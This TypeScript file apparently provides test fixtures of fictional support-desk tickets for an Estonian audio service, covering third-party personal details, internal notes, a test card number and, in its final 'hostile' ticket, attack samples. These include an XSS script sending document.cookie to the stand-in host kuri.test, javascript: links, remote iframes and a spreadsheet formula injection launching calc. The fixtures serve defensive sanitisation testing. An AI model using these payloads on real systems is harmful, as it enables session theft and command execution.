/**
 * The conversations of the cast: what makes a support desk hard. Other people are named in them, by the person and by staff;
 * some are copied in; internal notes say what nobody was meant to read; files hold more names; and one sender's HTML would run,
 * call out and go on for five megabytes if anybody let it. Numbers that look like somebody's are published test numbers.
 */
import type { FixtureTicket } from '../zendesk/fixtures.ts';
import { cast } from './cast.ts';
import { agents, deskCast, deskUserId } from './desk-cast.ts';
import { pdf, picture, recording } from './desk-files.ts';

const [kadri, mart] = [agents.kadri.id, agents.mart.id];
const of = ({ userId }: { readonly userId: string }): number => deskUserId(userId);
const [liis, merle, helmi, triin, rasmus, neil, katlin, kaisa] = [
  of(cast.sampleSubject),
  of(cast.colleague),
  of(cast.soleTrader),
  of(cast.playlistAuthor),
  of(cast.twoWorkspaces),
  of(cast.injection),
  of(cast.emoji),
  of(cast.managerNow),
];

export function castConversations(): FixtureTicket[] {
  return [...ofTheCafe(), ...ofOthers(), ...hostile()];
}

function ofTheCafe(): FixtureTicket[] {
  return [
    {
      id: 101,
      requester_id: liis,
      assignee_id: kadri,
      subject: 'Köögi seade on vait',
      status: 'closed',
      tags: ['heli', 'seade'],
      email_cc_ids: [merle],
      custom_fields: [
        { id: 360_000_800_001, value: 'Köök' },
        { id: 360_000_800_002, value: 'Merle Mänd, +372 0555 1004' },
      ],
      created_at: '2026-04-14T07:20:00Z',
      rating: { score: 'good', comment: 'Kadri aitas kiiresti, aitäh!', created_at: '2026-04-16T09:00:00Z' },
      comments: [
        {
          author_id: liis,
          created_at: '2026-04-14T07:20:00Z',
          byEmail: true,
          body: 'Tere!\n\nKöögis ei ole hommikust saadik heli. Meie vahetusevanem Merle Mänd (merle.mand@kuukala.example, +372 0555 1004) tegi juba restardi. Pilt on lisatud.\n\nLiis Õunapuu\nKohvik Kuukala',
          attachments: [picture('köök.png')],
        },
        {
          author_id: mart,
          created_at: '2026-04-14T07:41:00Z',
          public: false,
          body: 'Merle Mänd helistas ka ise ja ütles, et juhtme tõstis ümber nende elektrik (elmar@elekter.test). Ära kliendile ütle.',
        },
        {
          author_id: kadri,
          created_at: '2026-04-14T08:05:00Z',
          body: 'Tere, Liis!\n\nPalun kontrollige, kas juhe on väljundis 2. Merlele saatsin sama juhendi.\n\nKadri',
          attachments: [pdf('juhend.pdf', ['Juhend', 'Kohvik Kuukala', 'Koostas: Kadri Kask'])],
        },
        { author_id: liis, created_at: '2026-04-15T06:30:00Z', byEmail: true, body: 'Nüüd mängib. Aitäh!' },
      ],
    },
    {
      id: 102,
      requester_id: liis,
      assignee_id: mart,
      subject: 'Copy of an invoice, and who ordered it',
      status: 'solved',
      created_at: '2026-08-03T10:00:00Z',
      comments: [
        {
          author_id: liis,
          created_at: '2026-08-03T10:00:00Z',
          body: 'Hello,\n\nour accountant needs the July invoice again. Please also tell me whether Peeter Paju ordered the second device; he does not work here any more. We paid from EE382200221020145685.\n\nLiis',
        },
        {
          author_id: mart,
          created_at: '2026-08-03T10:20:00Z',
          public: false,
          body: 'Endine juhataja helistas eelmisel nädalal vihasena (+372 0555 1002), isikukood tema avaldusel 60001019906. Liisile mitte mainida.',
        },
        {
          author_id: mart,
          created_at: '2026-08-03T10:45:00Z',
          body: 'Hello Liis,\n\nthe invoice is attached. The second device was ordered from your account in May.\n\nMart',
          attachments: [pdf('invoice-copy.pdf', ['Invoice (copy)', 'Kohvik Kuukala', 'Contact: Liis Ounapuu'])],
        },
      ],
    },
    {
      id: 103,
      requester_id: merle,
      assignee_id: kadri,
      subject: 'Terrassi esitusloend',
      status: 'open',
      email_cc_ids: [liis],
      created_at: '2026-09-09T12:00:00Z',
      comments: [
        {
          author_id: merle,
          created_at: '2026-09-09T12:00:00Z',
          body: 'Tere! Kas terrassile saab oma loendi? Liis lubas. Palun vastake mulle, mu töötelefon on +372 0555 1004.',
        },
        {
          author_id: kadri,
          created_at: '2026-09-09T12:30:00Z',
          body: 'Tere, Merle! Jah, tegin loendi «Terrass». Liis Õunapuu saab seda samuti muuta.',
        },
        {
          author_id: kadri,
          created_at: '2026-09-09T12:31:00Z',
          public: false,
          body: 'Merle palus, et Liis ei teaks tema lahkumisplaanist.',
        },
      ],
    },
    {
      id: 104,
      requester_id: kaisa,
      subject: 'Uus juhataja',
      status: 'closed',
      created_at: '2026-09-02T06:00:00Z',
      comments: [
        {
          author_id: kaisa,
          created_at: '2026-09-02T06:00:00Z',
          byEmail: true,
          body: 'Tere! Alates septembrist vastan mina, Kaisa Lill, sellelt aadressilt. Enne mind oli siin Peeter Paju.',
        },
        { author_id: kadri, created_at: '2026-09-02T07:00:00Z', body: 'Tere, Kaisa! Aitäh teatamast.' },
      ],
    },
  ];
}

function ofOthers(): FixtureTicket[] {
  return [
    {
      id: 111,
      requester_id: helmi,
      assignee_id: kadri,
      subject: 'Töökoda suvel kinni',
      status: 'closed',
      created_at: '2026-05-20T09:00:00Z',
      rating: { score: 'good', created_at: '2026-05-21T09:00:00Z' },
      comments: [
        {
          author_id: helmi,
          created_at: '2026-05-20T09:00:00Z',
          byEmail: true,
          body: 'Tere! Sulgen töökoja juuliks. Kas peatate muusika ja arve? Raamatupidaja on minu õde Hedvig Hõbe, tel +372 0777 1313.',
          attachments: [pdf('leping.pdf', ['Leping', 'Helmi Hobe FIE'])],
        },
        { author_id: kadri, created_at: '2026-05-20T09:40:00Z', body: 'Tere, Helmi! Peatasin juuliks. Ilusat suve!' },
        {
          author_id: kadri,
          created_at: '2026-05-20T09:41:00Z',
          public: false,
          body: 'Helmi maksab hilinemisega, aga alati maksab.',
        },
      ],
    },
    {
      id: 112,
      requester_id: helmi,
      assignee_id: mart,
      subject: 'Arve maksmine kaardiga',
      status: 'solved',
      created_at: '2026-10-01T08:00:00Z',
      comments: [
        {
          author_id: helmi,
          created_at: '2026-10-01T08:00:00Z',
          body: 'Kaardi number on 4242 4242 4242 4242, miks ei tööta?',
        },
        {
          author_id: mart,
          created_at: '2026-10-01T08:10:00Z',
          body: 'Palun ärge saatke kaardi numbrit e-kirjaga. Proovige uuesti.',
        },
      ],
    },
    {
      id: 113,
      requester_id: triin,
      assignee_id: kadri,
      subject: 'Lahkun stuudiost',
      status: 'closed',
      email_cc_ids: [katlin],
      created_at: '2026-09-28T11:00:00Z',
      comments: [
        {
          author_id: triin,
          created_at: '2026-09-28T11:00:00Z',
          byEmail: true,
          body: 'Tere! Annan stuudio üle Kätlin Kuusele, tema on koopias. Minu uus aadress on triin.uus@trumm.example.',
        },
        { author_id: kadri, created_at: '2026-09-28T11:30:00Z', body: 'Tere, Triin ja Kätlin! Selge.' },
      ],
    },
    {
      id: 114,
      requester_id: katlin,
      assignee_id: kadri,
      subject: 'Üleandmine',
      status: 'open',
      email_cc_ids: [triin],
      created_at: '2026-10-02T11:00:00Z',
      comments: [
        {
          author_id: katlin,
          created_at: '2026-10-02T11:00:00Z',
          body: 'Tere! 🎧 Triin Trumm ütles, et arved tulevad nüüd mulle. Kas vajate midagi?',
        },
        { author_id: kadri, created_at: '2026-10-02T12:00:00Z', body: 'Tere, Kätlin! Triinu allkirjast piisab.' },
      ],
    },
    {
      id: 115,
      requester_id: rasmus,
      assignee_id: mart,
      subject: 'Krõbin salvestisel',
      status: 'solved',
      created_at: '2026-07-07T18:00:00Z',
      comments: [
        {
          author_id: rasmus,
          created_at: '2026-07-07T18:00:00Z',
          body: 'Hi! It crackles, please listen: Ann Saar from the club hears it, too.',
          attachments: [recording('krõbin.wav')],
        },
        { author_id: mart, created_at: '2026-07-08T08:00:00Z', body: 'Thanks, we have replaced the file.' },
      ],
    },
    {
      id: 116,
      requester_id: deskUserId(cast.formerMember.userId),
      subject: 'Konto sulgemine',
      status: 'closed',
      created_at: '2026-07-29T09:00:00Z',
      comments: [
        {
          author_id: deskUserId(cast.formerMember.userId),
          created_at: '2026-07-29T09:00:00Z',
          byEmail: true,
          body: 'Palun sulgege minu konto. Viivi Vaher',
        },
        { author_id: kadri, created_at: '2026-07-29T10:00:00Z', body: 'Tere, Viivi! Sulgesin.' },
      ],
    },
    {
      id: 117,
      requester_id: deskCast.asker.id,
      subject: 'Hinnapäring',
      status: 'closed',
      created_at: '2026-05-04T09:00:00Z',
      comments: [
        {
          author_id: deskCast.asker.id,
          created_at: '2026-05-04T09:00:00Z',
          byEmail: true,
          body: 'Tere! Palju maksab üks tuba?',
        },
        { author_id: kadri, created_at: '2026-05-04T09:30:00Z', body: 'Tere, Küllike! 19 eurot kuus.' },
      ],
    },
  ];
}

/** A sender whose name and text are markup, and who knows no end. */
function hostile(): FixtureTicket[] {
  const comments = [
    {
      author_id: neil,
      created_at: '2026-06-06T06:06:06Z',
      html_body: [
        '<p onmouseover="alert(1)">Help</p><script>document.location="https://kuri.test/?c="+document.cookie</script>',
        '<img src="https://kuri.test/pixel.gif?id=1022" width="1" height="1"><a href="javascript:alert(2)">open</a>',
        '<style>@import url(https://kuri.test/x.css)</style><iframe src="https://kuri.test/"></iframe>',
        '<svg><a xlink:href="javascript:alert(3)"><text>x</text></a></svg><form action="https://kuri.test/"><input name=p></form>',
      ].join(''),
    },
    {
      author_id: neil,
      created_at: '2026-06-06T06:07:00Z',
      body: 'One line: ',
      repeat: { text: `${'la '.repeat(24)}<b>&"' ; `, times: 62_500 },
    },
    { author_id: agents.kadri.id, created_at: '2026-06-06T07:00:00Z', body: 'Hello, please send plain text.' },
  ];
  return [
    {
      id: 121,
      requester_id: neil,
      assignee_id: kadri,
      subject: '<script>alert("habeas")</script> =cmd|\' /C calc\'!A0',
      status: 'solved',
      created_at: '2026-06-06T06:06:06Z',
      comments,
    },
  ];
}
